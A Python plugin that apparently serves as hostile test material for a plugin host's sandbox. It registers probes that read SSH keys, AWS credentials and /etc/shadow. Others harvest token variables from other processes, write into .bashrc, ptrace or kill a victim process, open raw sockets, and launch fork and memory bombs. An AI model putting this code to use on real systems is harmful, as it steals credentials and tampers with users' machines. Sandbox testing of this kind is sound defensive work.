"""A plugin that means harm. Each attack returns what it got, or nothing; none of them destroys anything.

What to aim at may come from the host's --config, because a jail shows too little to find it:
  home        the folder of whoever started the host        victim     id of a process that may be lost
  secrets     names of variables with secrets               tcp, udp   ports of listeners on 127.0.0.1
  outside     a folder that the user may write              processes, megabytes   where the bombs stop
"""
import ctypes
import errno
import functools
import os
import pathlib
import shutil
import signal
import socket
import stat
import subprocess
import time

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_DETACH, PTRACE_SEIZE, PTRACE_INTERRUPT, WALL = 17, 0x4206, 0x4207, 0x40000000
SYS_ADD_KEY, SYS_KEYCTL = 248, 250  # x86-64
KEYCTL_SEARCH, KEYCTL_READ, KEYCTL_INVALIDATE, USER_KEYRING = 10, 11, 21, -4
SECONDS = 5
NOBODY = 4194304  # one above the largest id a process can have


def checked(result):
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


# Files

def read(path):
    with open(path, "rb") as file:
        return file.read(4096).decode(errors="replace").strip()[:60] or None


def write(path):
    with open(path, "a", encoding="ascii") as file:
        file.write("# planted by a plugin\n")
    return f"wrote {path}"


def read_through_link(folder, target):
    link = folder / "innocent.txt"
    link.unlink(missing_ok=True)
    link.symlink_to(target)
    try:
        return read(link)
    finally:
        link.unlink()


def hard_link(folder, target):
    link = folder / "innocent-too.txt"
    os.link(target, link)
    try:
        return read(link)
    finally:
        link.unlink()


def others_in(folder, own):
    """What stands beside the way to the plugin's own folder."""
    return [name for name in os.listdir(folder) if folder / name not in own.resolve().parents][:5] or None


def home_above(folder):
    """The path of a plugin's own folder tells whose it is, where the environment does not."""
    parts = folder.resolve().parts
    return pathlib.Path(*parts[:parts.index(".local")]) if ".local" in parts else pathlib.Path.home()


def setuid_file(folder):
    path = folder / "setuid"
    shutil.copyfile("/proc/self/exe", path)
    try:
        path.chmod(0o4755)
        return oct(path.stat().st_mode) if path.stat().st_mode & stat.S_ISUID else None
    finally:
        path.unlink()


def own_code():
    """The next start would run what is planted here."""
    with open(__file__, "r+b"):
        return f"may change {__file__}"


# Processes

def secrets_in(block, names):
    pairs = [pair.partition("=") for pair in block.split("\0")]
    return {name: value for name, _, value in pairs if name in names} or None


def own_environment(names):
    return {name: os.environ[name] for name in names if name in os.environ} or None


def foreign_environment(pid, names):
    return secrets_in(pathlib.Path(f"/proc/{pid}/environ").read_text(errors="replace"), names)


def all_environments(names):
    """Of every process there is to be seen: a launcher that stays above its plugin keeps its own environment."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            found = foreign_environment(pid, names)
        except OSError:
            continue
        if found:
            return found
    return None


def command_line(pid):
    return pathlib.Path(f"/proc/{pid}/cmdline").read_text(errors="replace").replace("\0", " ").strip()[:60] or None


def root_of(pid):
    return f"{len(os.listdir(f'/proc/{pid}/root/'))} entries of its root"


def descriptors_of(pid):
    return [os.readlink(f"/proc/{pid}/fd/{name}") for name in os.listdir(f"/proc/{pid}/fd")][:3] or None


def memory_of(pid):
    with open(f"/proc/{pid}/mem", "r+b"):
        return "its memory is open for writing"


def trace(pid):
    LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    LIBC.ptrace.restype = ctypes.c_long
    checked(LIBC.ptrace(PTRACE_SEIZE, pid, None, None))
    checked(LIBC.ptrace(PTRACE_INTERRUPT, pid, None, None))
    os.waitpid(pid, WALL)
    checked(LIBC.ptrace(PTRACE_DETACH, pid, None, None))
    return f"process {pid} was stopped by a tracer"


def end_process(pid):
    os.kill(pid, signal.SIGTERM)
    for _ in range(100 * SECONDS):
        if process_state(pid) in "ZX":
            return f"process {pid} is gone"
        time.sleep(0.01)
    return None


def process_state(pid):
    try:
        return pathlib.Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]
    except FileNotFoundError:
        return "X"


def shell(command):
    return subprocess.run(["/bin/sh", "-c", command], capture_output=True, text=True, check=True,
                          timeout=SECONDS).stdout.strip()[:60] or None


def tool(name):
    return subprocess.run([shutil.which(name) or f"/usr/bin/{name}", "--version"], capture_output=True, text=True,
                          check=True, timeout=SECONDS).stdout.split("\n")[0][:60] or None


# Network

def tcp(port):
    with socket.create_connection(("127.0.0.1", port), SECONDS) as connection:
        connection.sendall(b"stolen")
        return f"sent, answer {connection.recv(64).decode()!r}"


def udp(port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.settimeout(2)
        channel.sendto(b"stolen", ("127.0.0.1", port))
        return f"sent, answer {channel.recv(64).decode()!r}"


def raw_socket():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)):
        return "sees every packet"


# Resources

def fork_bomb(wanted):
    """Children that wait; all of them go when this process closes its end of the pipe, or ends."""
    (reading, writing), children, stopped = os.pipe(), [], None
    while len(children) < wanted and not stopped:
        try:
            child = os.fork()
        except OSError as error:
            stopped = error
            break
        if child == 0:
            os.close(writing)
            os.read(reading, 1)
            os._exit(0)
        children.append(child)
    os.close(writing)
    for child in children:
        os.waitpid(child, 0)
    os.close(reading)
    if stopped:
        raise stopped
    return f"{len(children)} processes at once"


def hoard(megabytes):
    """Runs in a child, which the kernel may kill for it."""
    try:
        kept = [bytearray(b"x") * (1 << 20) for _ in range(megabytes)]
    except MemoryError:
        os._exit(errno.ENOMEM)
    os._exit(0 if len(kept) == megabytes else 1)


def memory_bomb(megabytes):
    child = os.fork()
    if child == 0:
        hoard(megabytes)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if status == errno.ENOMEM:
        raise OSError(errno.ENOMEM, os.strerror(errno.ENOMEM))
    return f"{megabytes} MiB" if status == 0 else None


# Keys

def keyring():
    """Whatever any program of this user has put into its keyrings can be searched and read."""
    serial = checked(LIBC.syscall(SYS_KEYCTL, KEYCTL_SEARCH, USER_KEYRING, b"user", b"plughost", 0))
    found = ctypes.create_string_buffer(64)
    checked(LIBC.syscall(SYS_KEYCTL, KEYCTL_READ, serial, found, 64))
    return found.value.decode()


def plant_key():
    serial = checked(LIBC.syscall(SYS_ADD_KEY, b"user", b"plughost-planted", b"x", 1, USER_KEYRING))
    checked(LIBC.syscall(SYS_KEYCTL, KEYCTL_INVALIDATE, serial))
    return f"planted key {serial}"


def register(context):
    config, data, attack = context.config, context.data, context.attack
    home = pathlib.Path(config.get("home") or home_above(data))
    outside = pathlib.Path(config.get("outside", "/var/tmp"))
    names, victim = config.get("secrets", ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"]), config.get("victim", NOBODY)

    def add(name, function, *arguments):
        attack(name, functools.partial(function, *arguments))

    add("ssh-key", read, home / ".ssh/id_ed25519")
    add("aws-keys", read, home / ".aws/credentials")
    add("ssh-key-by-link", read_through_link, data, home / ".ssh/id_ed25519")
    add("ssh-key-by-hard-link", hard_link, data, home / ".ssh/id_ed25519")
    add("etc-shadow", read, "/etc/shadow")
    add("etc-passwd", read, "/etc/passwd")
    add("home-listing", others_in, home, data)
    add("write-in-home", write, home / ".bashrc")
    add("write-outside", write, outside / "planted")
    add("write-own-code", own_code)
    add("setuid-file", setuid_file, data)
    add("env-secrets", own_environment, names)
    add("environ-of-victim", foreign_environment, victim, names)
    add("environ-of-any-process", all_environments, names)
    add("proc-1-environ", foreign_environment, 1, names)
    add("proc-1-cmdline", command_line, 1)
    add("proc-1-root", root_of, 1)
    add("proc-1-fd", descriptors_of, 1)
    add("proc-1-mem", memory_of, 1)
    add("proc-victim-root", root_of, victim)
    add("proc-victim-mem", memory_of, victim)
    add("ptrace-victim", trace, victim)
    if os.getppid() == 0:  # the jail's own pid 1 is the parent; outside it is the machine's, which is left alone
        add("ptrace-init", trace, 1)
    add("tcp-out", tcp, config.get("tcp", 22))
    add("udp-out", udp, config.get("udp", 53))
    add("packet-socket", raw_socket)
    add("shell", shell, "id")
    add("other-program", tool, "cp")
    add("fork-bomb", fork_bomb, config.get("processes", 2000))
    add("memory", memory_bomb, config.get("megabytes", 1024))
    add("keyring-read", keyring)
    add("keyring-plant", plant_key)
    add("kill-victim", end_process, victim)
